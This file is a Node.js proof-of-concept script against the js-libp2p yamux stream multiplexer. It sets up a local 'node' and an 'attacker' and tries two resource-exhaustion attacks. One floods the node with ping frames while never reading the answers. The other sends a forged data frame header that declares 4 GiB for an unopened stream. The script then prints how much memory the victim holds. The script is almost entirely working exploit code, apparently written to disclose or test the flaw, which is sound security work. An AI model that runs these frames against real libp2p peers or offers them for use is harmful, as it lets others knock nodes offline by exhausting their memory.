// What one connection has a node hold: node js-libp2p-yamux.mjs [frame | pings]
import { noise } from '@libp2p/noise'
import { tcp } from '@libp2p/tcp'
import { yamux } from '@libp2p/yamux'
import { createLibp2p } from 'libp2p'

const create = listen => createLibp2p({
  addresses: { listen },
  transports: [tcp()],
  connectionEncrypters: [noise()],
  streamMuxers: [yamux()],
  connectionMonitor: { enabled: false }
})
const [node, attacker] = await Promise.all([create(['/ip4/127.0.0.1/tcp/0']), create([])])
const connection = await attacker.dial(node.getMultiaddrs())
const below = connection.muxer.maConn
const sleep = ms => new Promise(resolve => setTimeout(resolve, ms))
const sent = async () => { for (let i = 0; below.writeBufferLength > 0 && i < 3_000; i++) { await sleep(1) } }
while (node.getConnections().length === 0) { await sleep(1) }
const { muxer } = node.getConnections()[0]

if (process.argv[2] === 'pings') {
  connection.maConn.socket.pause()
  const pings = Buffer.concat(Array.from({ length: 5_000 }, () => Buffer.of(0, 2, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0)))

  for (let i = 0; i < 100 && below.status === 'open'; i++) {
    below.send(pings)
    await sent()
  }
  await sleep(1_000)
  console.log(`6 MB of pings sent and none of the answers read: ${muxer.maConn.writeBuffer.bufs.length} answers wait, ${(process.memoryUsage.rss() / 1e6).toFixed(0)} MB of memory`)
} else {
  // data of 4 GiB, for a stream that nobody has opened
  below.send(Buffer.of(0, 0, 0, 0, 0, 0, 0, 101, 0xff, 0xff, 0xff, 0xff))

  for (let i = 0; i < 100 && below.status === 'open'; i++) {
    below.send(new Uint8Array(1_000_000))
    await sent()
  }
  await sleep(1_000)
  console.log(`100 MB sent of a frame of 4 GiB: ${(muxer.decoder.buffer.byteLength / 1e6).toFixed(0)} MB are held, the connection is ${connection.status}`)
}

process.exit()
